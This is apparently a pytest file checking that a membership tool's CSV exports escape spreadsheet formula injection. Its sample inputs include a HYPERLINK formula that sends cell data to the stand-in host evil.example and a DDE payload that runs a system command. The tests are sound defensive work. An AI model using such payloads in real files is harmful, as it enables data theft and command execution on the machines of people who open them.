"""Every CSV memberbot writes is safe to open in a spreadsheet: a text cell that a spreadsheet
would run as a formula (a leading `=`, `+`, `-`, `@`, tab or carriage return) is written with
a leading `'`, while numbers, negative ones too, stay numbers. Through the real writers:
`segments export` and the demo's `--export` files."""

from __future__ import annotations

import asyncio
import csv
from datetime import date
from pathlib import Path

import pytest
from typer.testing import CliRunner

from db.session import Database
from domain.shop import load_shop_config
from memberbot.cli import app
from memberbot.demo import chain, generator
from memberbot.settings import get_settings
from tests.support.builders import add_visit, new_member

AS_OF = date(2026, 11, 24)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
    "=cmd|' /C calc'!A0",
)


def test_formula_cells_are_escaped_and_numbers_stay_numbers() -> None:
    from domain.csvwrite import safe_cell, safe_row

    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for number in ("-50", "+3", "-0.5", "12.50", "0", "42"):
        assert safe_cell(number) == number
    assert safe_cell(-50) == "-50" and safe_cell(1.5) == "1.5"
    assert safe_cell("DEMO-00001") == "DEMO-00001" and safe_cell("王先生") == "王先生"
    assert safe_cell("") == "" and safe_cell(None) == ""
    assert safe_row(["=1", -50, "x"]) == ["'=1", "-50", "x"]


async def test_segments_export_escapes_formula_refs(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for index, ref in enumerate(FORMULAS):
        member = await new_member(db, ref, f"1381234{index:04d}")
        await add_visit(db, member, date(2026, 10, 1), 30_000)
    monkeypatch.setenv(
        "MEMBERBOT_DATABASE_URL", db.engine.url.render_as_string(hide_password=False)
    )
    monkeypatch.delenv("MEMBERBOT_SHOP_CONFIG", raising=False)
    get_settings.cache_clear()
    out = tmp_path / "segments.csv"
    args = ["segments", "export", "--as-of", AS_OF.isoformat(), "-o", str(out)]
    try:
        result = await asyncio.to_thread(CliRunner().invoke, app, args)
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    stored = (ref.strip() for ref in FORMULAS)  # as members.create keeps them
    assert sorted(row["member_ref"] for row in rows) == sorted("'" + ref for ref in stored)
    for row in rows:
        assert row["recency_days"] == "54" and row["monetary"] == "300.00"
        assert float(row["churn_risk"]) >= 0


def test_demo_export_escapes_formula_cells(tmp_path: Path) -> None:
    data = generator.generate(load_shop_config(chain.DEMO_SHOP), members=5, seed=1, today=AS_OF)
    data.members[0]["name"] = '=HYPERLINK("http://evil.example")'
    data.members[1]["tags"] = "@SUM(A1:A9)"
    paths = generator.write_csv(data, tmp_path)
    rows = list(csv.DictReader(paths["members"].read_text(encoding="utf-8").splitlines()))
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example")'
    assert rows[1]["tags"] == "'@SUM(A1:A9)"
    for row in rows:
        assert not row["phone"].startswith(("+", "-", "="))  # "+86 138…" is a formula too
